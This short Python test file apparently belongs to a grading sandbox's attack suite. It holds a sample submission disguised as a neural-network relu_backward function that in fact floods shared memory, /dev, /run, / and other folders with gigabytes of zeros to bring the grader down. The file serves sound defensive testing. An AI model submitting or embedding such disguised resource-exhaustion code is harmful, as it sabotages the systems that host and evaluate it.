"""Fills whatever else can be written: shared memory, message queues, the devices' folder."""

from __future__ import annotations

from tests.attacks.attack import BRINGS_DOWN, Attack

SOURCE = """
def relu_backward(Z, dA):
    for folder in ("/dev/shm", "/dev", "/dev/mqueue", "/run", "/var/tmp", "/", "/opt", "/opt/view"):
        try:
            with open(folder + "/flood", "wb") as file:
                for _ in range(64):
                    file.write(bytes(1 << 24))
        except OSError:
            pass
    return np.zeros_like(Z)
"""
ATTACK = Attack(answers={"relu_backward": SOURCE}, no_stock=BRINGS_DOWN)
